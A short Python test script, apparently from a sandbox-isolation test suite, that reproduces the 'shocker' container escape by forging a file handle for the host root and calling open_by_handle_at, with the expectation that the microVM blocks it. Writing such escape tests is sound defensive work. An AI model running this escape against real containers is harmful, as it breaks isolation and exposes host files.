# attack: the "shocker" escape, open_by_handle_at with a guessed handle of the host's root
# users: root
# expect-microvm: blocked
import ctypes
import os

from _lib import privileged, syscall

handle = (ctypes.c_uint8 * 16)()
ctypes.memmove(handle, (ctypes.c_uint32 * 4)(8, 1, 2, 0), 16)  # 8 bytes, type 1, inode 2
fd = os.open("/.stockade/agent", os.O_RDONLY)
results = {
    "open_by_handle_at": syscall("open_by_handle_at", fd, handle, 0)[1] or "ok",
    "name_to_handle_at": syscall("name_to_handle_at", -100, b"/", handle, ctypes.byref(ctypes.c_int()), 0)[1]
    or "ok",
}
print(results)  # name_to_handle_at alone reads nothing
privileged({"open_by_handle_at": results["open_by_handle_at"]})
